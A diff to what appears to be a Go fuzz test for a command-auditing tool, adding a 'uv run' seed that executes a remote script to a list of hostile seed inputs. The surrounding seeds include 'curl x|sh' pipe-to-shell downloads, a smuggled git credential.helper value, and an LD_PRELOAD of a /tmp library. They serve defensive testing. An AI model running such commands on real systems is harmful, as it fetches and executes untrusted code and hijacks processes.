@@ -99,6 +99,7 @@ var fuzzSeeds = [][]string{
 	{"git", "-c", "credential.helper=~/h -c 'curl x|sh'", "-c", "remote.o.uploadpack=sh", "clone", "-u", "curl x|sh", "--exec", "x", "./r"},
 	{"dotenvx", "run", "-fk", "k", "-e", "A=1", "--", "aws-vault", "exec", "-d", "p", "--", "distrobox-enter", "--", "sops", "exec-env", "f", "curl x|sh"},
 	{"LD_PRELOAD=/tmp/x.so /opt/my app/srv; curl x.example/a.sh|sh", "a.js"},
+	{"uv", "run", "--with", "x", "--script", "http://u:p@x/s.py", "https://x/y"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
